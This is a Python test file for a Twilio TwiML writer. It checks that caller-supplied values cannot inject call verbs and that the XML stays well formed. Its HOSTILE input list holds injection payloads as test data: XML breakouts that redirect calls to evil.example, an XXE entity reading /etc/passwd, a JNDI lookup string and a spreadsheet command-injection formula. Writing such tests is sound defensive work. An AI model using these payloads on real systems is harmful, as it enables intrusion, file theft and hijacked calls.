import logging
import xml.etree.ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.config.twilio import HANG_UP, NextStep
from shared.wire.twiml import apology, engage, next_step

URL = "wss://media.example.com/twilio/a.b.c"

HOSTILE = [
    '"/><Hangup/>',
    "'/><Hangup/>",
    '"></Parameter></Stream></Connect><Dial>+19005550100</Dial><Connect><Stream url="wss://evil.example"/>',
    "</Response>",
    "<Response><Connect/></Response>",
    "<![CDATA[<Connect/>]]>",
    "]]></Response>",
    "<!-- -->",
    "--><Connect/><!--",
    "<?xml version='1.0'?><Response/>",
    "<?php echo 1 ?>",
    "&lt;Connect/&gt;",
    "&#60;Connect/&#62;",
    "&amp;amp;",
    "&unknown;",
    "&#x0;",
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "<!ENTITY % a '<Connect/>'>%a;",
    'Bob" value="x" name="taskName',
    'a"\n/>\r\n\t<Redirect>https://evil.example</Redirect>',
    "${jndi:ldap://evil.example/a}",
    "{{widgets.split.url}}",
    "＜Connect／＞",
    "Zoë ☎ 𝄞 \u202e\u2028",
    "=cmd|' /C calc'!A0",
]
WITHOUT_PLACE = ["\x00", "\x08", "\x0b", "\x1b[31m", "\ufffe", "\uffff", "\ud800", "\udfff"]


def parsed(text):
    root = ET.fromstring(text.encode())  # noqa: S314  # our own output
    assert root.tag == "Response"
    return root


def verbs(text):
    return [(verb.tag, verb.text or "") for verb in parsed(text)]


def parameters(text):
    [connect] = parsed(text).iter("Connect")
    assert [child.tag for child in connect] == ["Stream"]
    [stream] = connect
    assert all(child.tag == "Parameter" and len(child) == 0 for child in stream)
    assert all(set(child.attrib) == {"name", "value"} for child in stream)
    return [(child.get("name"), child.get("value")) for child in stream]


def test_a_call_is_connected():
    text = engage(
        URL,
        {"taskName": "order_desk", "empty": ""},
        action="https://h/done?a=b&c=d",
        status_callback="https://h/s",
    )
    assert text == (
        '<?xml version="1.0" encoding="UTF-8"?><Response><Connect action="https://h/done?a=b&amp;c=d">'
        f'<Stream statusCallback="https://h/s" url="{URL}"><Parameter name="taskName" value="order_desk" />'
        '<Parameter name="empty" value="" /></Stream></Connect></Response>'
    )


def test_a_flow_gets_its_call_back_by_a_redirect():
    text = engage(URL, {}, return_to="https://webhooks.example.com/v1/flow?FlowEvent=return&a=1")
    root = parsed(text)
    assert [child.tag for child in root] == ["Connect", "Redirect"]
    assert root[0].attrib == {} and root[0][0].attrib == {"url": URL}
    assert root[1].text == "https://webhooks.example.com/v1/flow?FlowEvent=return&a=1"
    assert [child.tag for child in parsed(engage(URL, {}))] == ["Connect"]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_value_becomes_a_verb(text):
    """The strings that a caller's name, a number, a parameter and a task may hold."""
    given_parameters = {"From": text, "CallerName": text, "taskName": text, text: "value", "last": "1"}
    written = engage(URL, given_parameters, action=f"https://h/{text}", status_callback=text, return_to=text)
    assert parameters(written) == list(given_parameters.items())
    assert [child.tag for child in parsed(written)] == ["Connect", "Redirect"]
    assert parsed(written)[0].attrib == {"action": f"https://h/{text}"}
    assert verbs(next_step(NextStep(enqueue=text))) == [("Enqueue", text.replace("\r\n", "\n"))]
    assert verbs(next_step(NextStep(redirect=text)))[0][0] == "Redirect"
    assert [verb for verb, _ in verbs(apology(NextStep(dial=text), text))] == ["Say", "Dial"]


@pytest.mark.parametrize("text", WITHOUT_PLACE)
def test_characters_that_no_xml_may_hold_are_left_out(text):
    left = "[31m" if text.startswith("\x1b") else ""
    written = engage(URL + text, {f"a{text}b": f"c{text}d", text: "e"}, action=f"https://h/{text}")
    assert parameters(written) == [(f"a{left}b", f"c{left}d"), *([(left, "e")] if left else [])]
    assert parsed(written)[0].get("action") == f"https://h/{left}"
    assert verbs(next_step(NextStep(enqueue=f"q{text}"))) == [("Enqueue", f"q{left}")]


def test_names_that_become_equal_are_written_once():
    assert parameters(engage(URL, {"a": "1", "a\x00": "2"})) == [("a", "1")]


def test_what_is_too_long_for_twilio_is_left_out_and_told(caplog):
    most, more = "v" * 494, "v" * 495
    with caplog.at_level(logging.WARNING):
        written = engage(URL, {"number": most, "longer": more, "last": "1"})
    assert parameters(written) == [("number", most), ("last", "1")]
    assert caplog.messages == ["parameter 2 of a call for Twilio is left out: 6 and 495 characters"]


characters = st.characters()  # half surrogates and control characters too


@given(
    st.dictionaries(st.text(characters, max_size=12), st.text(characters, max_size=20), max_size=4),
    st.text(characters, max_size=20),
)
@settings(max_examples=100, deadline=None)
def test_any_text_leaves_it_well_formed(given_parameters, text):
    written = engage(URL, given_parameters, action=text, status_callback=text, return_to=text)
    assert len(parameters(written)) <= len(given_parameters)
    assert {child.tag for child in parsed(written)} <= {"Connect", "Redirect"}


@pytest.mark.parametrize(
    ("step", "expected"),
    [
        (NextStep(dial="+18005550199"), ("Dial", "+18005550199")),
        (NextStep(enqueue="support & more"), ("Enqueue", "support & more")),
        (NextStep(redirect="https://h/next?a=b&c=d"), ("Redirect", "https://h/next?a=b&c=d")),
        (HANG_UP, ("Hangup", "")),
    ],
)
def test_what_comes_next(step, expected):
    assert verbs(next_step(step)) == [expected]
    [said, then] = verbs(apology(step))
    assert then == expected
    assert said[0] == "Say"
    assert said[1].endswith("Please call again later." if step is HANG_UP else "Please stay on the line.")


def test_nobody_to_call():
    assert [verb for verb, _ in verbs(apology(None, "Sorry."))] == ["Say", "Hangup"]
    assert verbs(apology(None, "Sorry."))[0][1] == "Sorry. Please call again later."
